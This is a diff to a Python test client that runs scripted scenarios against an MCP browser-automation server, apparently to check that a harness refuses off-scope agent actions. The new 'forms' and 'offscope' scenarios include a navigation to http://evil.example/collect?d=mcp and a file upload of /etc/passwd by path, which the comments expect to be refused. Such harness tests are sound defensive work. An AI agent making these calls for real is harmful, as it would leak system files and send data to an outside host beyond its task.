@@ -14,6 +14,10 @@ Scenarios:
   idle        stdio: a snapshot, then idle until the file --resume exists, then one more call
               (the test stops the run meanwhile, as an operator would).
   http        streamable HTTP with a bearer token: list tools and one snapshot, then close.
+  forms       stdio, on the lab's forms page: select_option, typing into the list box, hover,
+              uploads (declared, undeclared, by path), a wait that never holds, an off-scope
+              navigation, tabs, a dialog, then a snapshot to show the session went on.
+  offscope    stdio: an off-scope navigation, then a snapshot.
 """
 
 import argparse
@@ -79,8 +83,9 @@ async def full(session, log):
               descriptions={t.name: t.description for t in tools.tools})
     await call(session, log, "browser_snapshot")
     # Off the task (an incident the task must not touch): refused with the reason, as a tool
-    # result, and the session goes on. (Reaching another host would be a severe violation,
-    # which stops and freezes the run; tests/attacks.rs covers that.)
+    # result, and the session goes on. (Reaching another host is a severe violation: refused
+    # too in an MCP session by default, or the run stops with `[mcp] on_violation = "stop"`;
+    # the `forms` and `offscope` scenarios cover both.)
     await call(session, log, "browser_navigate", {"url": "http://incidents.example/incidents/INC-9911"})
     await call(session, log, "browser_click", {"element": "search box", "x": 409, "y": 116})
     await call(session, log, "browser_type", {"text": "RUN-78432", "submit": True})
@@ -98,6 +103,35 @@ async def full(session, log):
     await call(session, log, "browser_take_screenshot")
     await call(session, log, "done", {"claim": "Added a note to INC-2048 naming test_refund_rounding."})
     # After done the run is over; further calls say so.
+    await call(session, log, "browser_snapshot")
+
+
+async def forms(session, log):
+    tools = await session.list_tools()
+    log.write(event="tools", names=[t.name for t in tools.tools])
+    _, page = await call(session, log, "browser_snapshot")
+    prio = ref_of(page, 'combobox "Priority"')
+    await call(session, log, "browser_select_option", {"element": "Priority", "ref": prio, "values": ["High"]})
+    await call(session, log, "browser_type", {"element": "Priority", "ref": prio, "text": "low"})
+    await call(session, log, "browser_select_option", {"element": "Priority", "ref": prio, "values": ["Urgent"]})
+    _, page = await call(session, log, "browser_snapshot")
+    menu = ref_of(page, 'button "Actions"')
+    await call(session, log, "browser_hover", {"element": "Actions", "ref": menu})
+    await call(session, log, "browser_file_upload", {"element": "Attachment", "file": "report"})
+    await call(session, log, "browser_file_upload", {"element": "Attachment", "file": "passwd"})
+    await call(session, log, "browser_file_upload", {"element": "Attachment", "paths": ["/etc/passwd"]})
+    await call(session, log, "browser_wait_for", {"text": "This text never appears", "time": 1})
+    await call(session, log, "browser_navigate", {"url": "http://evil.example/collect?d=mcp"})
+    await call(session, log, "browser_tabs", {"action": "list"})
+    await call(session, log, "browser_tabs", {"action": "select", "index": 1})
+    await call(session, log, "browser_handle_dialog", {"accept": True})
+    await call(session, log, "browser_snapshot")
+    await call(session, log, "done", {"claim": "Set the priority and attached the report."})
+
+
+async def offscope(session, log):
+    await call(session, log, "browser_snapshot")
+    await call(session, log, "browser_navigate", {"url": "http://evil.example/collect?d=mcp"})
     await call(session, log, "browser_snapshot")
 
 
@@ -154,7 +188,7 @@ async def http(args):
 
 def main():
     p = argparse.ArgumentParser()
-    p.add_argument("scenario", choices=["full", "disconnect", "idle", "http"])
+    p.add_argument("scenario", choices=["full", "disconnect", "idle", "http", "forms", "offscope"])
     p.add_argument("--bin")
     p.add_argument("--home")
     p.add_argument("--task")
@@ -171,6 +205,8 @@ def main():
     else:
         scenarios = {
             "full": full,
+            "forms": forms,
+            "offscope": offscope,
             "disconnect": disconnect,
             "idle": lambda session, log: idle(session, log, args.resume),
         }
